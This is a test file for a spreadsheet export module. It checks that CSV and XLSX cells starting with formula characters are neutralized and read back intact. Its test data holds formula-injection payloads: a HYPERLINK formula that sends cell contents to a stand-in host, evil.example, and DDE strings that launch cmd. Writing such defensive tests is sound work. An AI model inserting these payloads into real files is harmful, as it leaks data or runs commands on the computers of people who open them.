import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { defuseCell, restoreCell } from "~/server/export/cells";
import { parseCsv, toCsv } from "~/server/export/csv";
import { exportTable } from "~/server/export/file";
import { readXlsx, writeXlsx } from "~/server/export/xlsx";

/** What an attacker would put in a name or a description; one per character spreadsheets treat as a formula start. */
const DANGEROUS = [
  ["=", '=HYPERLINK("https://evil.example/?"&A1,"Открыть")'],
  ["+", "+cmd|' /C calc'!A0"],
  ["-", "-2+3+cmd|' /C calc'!A0"],
  ["@", "@SUM(1+9)*cmd|' /C calc'!A0"],
  ["tab", "\t=1+1"],
  ["CR", "\r=1+1"],
  ["LF", "\n=1+1"],
] as const;

async function sheetOf(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

describe("defuseCell", () => {
  it.each(DANGEROUS)("puts an apostrophe before a cell starting with %s, in CSV and XLSX", (_, value) => {
    expect(defuseCell(value, "csv")).toBe(`'${value}`);
    expect(defuseCell(value, "xlsx")).toBe(`'${value}`);
    expect(restoreCell(defuseCell(value, "csv"))).toBe(value);
  });

  it("leaves plain text and plain numbers alone", () => {
    for (const v of ["Кедров Олег", "", "-5", "-1,5", "12.5", "a=b", "8 (912) 345-67-89", "'уже с апострофом"]) {
      expect(defuseCell(v, "csv")).toBe(v);
      expect(defuseCell(v, "xlsx")).toBe(v);
    }
    expect(defuseCell("-1+2", "csv")).toBe("'-1+2");
  });

  it("keeps an international phone number readable in XLSX, and defused in CSV", () => {
    expect(defuseCell("+49 30 1234567", "xlsx")).toBe("+49 30 1234567");
    expect(defuseCell("+1 (202) 555-01-23", "xlsx")).toBe("+1 (202) 555-01-23");
    expect(defuseCell("+49 30 1234567", "csv")).toBe("'+49 30 1234567");
    // Anything beyond digits, spaces, brackets and hyphens is not a phone number.
    expect(defuseCell("+7 912 SUM(1)", "xlsx")).toBe("'+7 912 SUM(1)");
    expect(defuseCell("+7|cmd", "xlsx")).toBe("'+7|cmd");
  });
});

describe("CSV", () => {
  it.each(DANGEROUS)("defuses a cell starting with %s and reads it back as written", (_, value) => {
    const csv = toCsv([["ФИО"], [value]]);
    const line = csv.slice(1).split("\r\n")[1]!;
    // The first character Excel sees is a quote or an apostrophe, never the formula's.
    expect(line.replace(/^"/, "")[0]).toBe("'");
    expect(parseCsv(csv)).toEqual([["ФИО"], [value]]);
  });

  it("writes UTF-8 with a BOM, semicolons and CRLF, quoting separators, quotes, line breaks and edge spaces", () => {
    const csv = toCsv([
      ["a;b", 'say "hi"', "line\nbreak", " lead", "trail ", 3, null],
      ["plain", "-5"],
    ]);
    expect(csv).toBe('\uFEFF"a;b";"say ""hi""";"line\nbreak";" lead";"trail ";3;\r\nplain;-5\r\n');
    expect(parseCsv(csv)).toEqual([
      ["a;b", 'say "hi"', "line\nbreak", " lead", "trail ", "3", ""],
      ["plain", "-5"],
    ]);
  });
});

describe("XLSX", () => {
  it.each(DANGEROUS)("writes a cell starting with %s as defused text, never a formula", async (_, value) => {
    const bytes = await writeXlsx([{ name: "Лист", header: ["ФИО"], rows: [[value]] }]);
    const cell = (await sheetOf(bytes)).getCell("A2");
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    // XML turns a bare CR into LF: the text that comes back has a line feed there.
    expect(cell.value).toBe(`'${value}`.replace(/\r/g, "\n"));
    // The import reads the platform's own files back as they were written.
    expect((await readXlsx(bytes))[1]).toEqual([value.replace(/\r/g, "\n")]);
  });

  it("keeps numbers as numbers and phones as people read them", async () => {
    const bytes = await writeXlsx([
      {
        name: "Участники",
        header: ["Телефон", "Места"],
        rows: [
          ["8 (912) 345-67-89", 30],
          ["+49 30 1234567", null],
        ],
      },
    ]);
    const sheet = await sheetOf(bytes);
    expect(sheet.getCell("A2").value).toBe("8 (912) 345-67-89");
    expect(sheet.getCell("B2").value).toBe(30);
    expect(sheet.getCell("A3").value).toBe("+49 30 1234567");
    expect(sheet.getCell("A3").type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
  });
});

describe("exportTable", () => {
  const table = { title: "Участники", caption: "Пленарное заседание", header: ["ФИО"], rows: [["=1+1"]] };

  it("writes CSV with the caption line above the header", async () => {
    const file = await exportTable(table, "csv");
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    expect(file.body).toBe("\uFEFFПленарное заседание\r\nФИО\r\n'=1+1\r\n");
  });

  it("writes XLSX with the title as the sheet's name", async () => {
    const file = await exportTable(table, "xlsx");
    const sheet = await sheetOf(file.body as Uint8Array);
    expect(sheet.name).toBe("Участники");
    expect(sheet.getCell("A1").value).toBe("ФИО");
    expect(sheet.getCell("A2").value).toBe("'=1+1");
  });
});
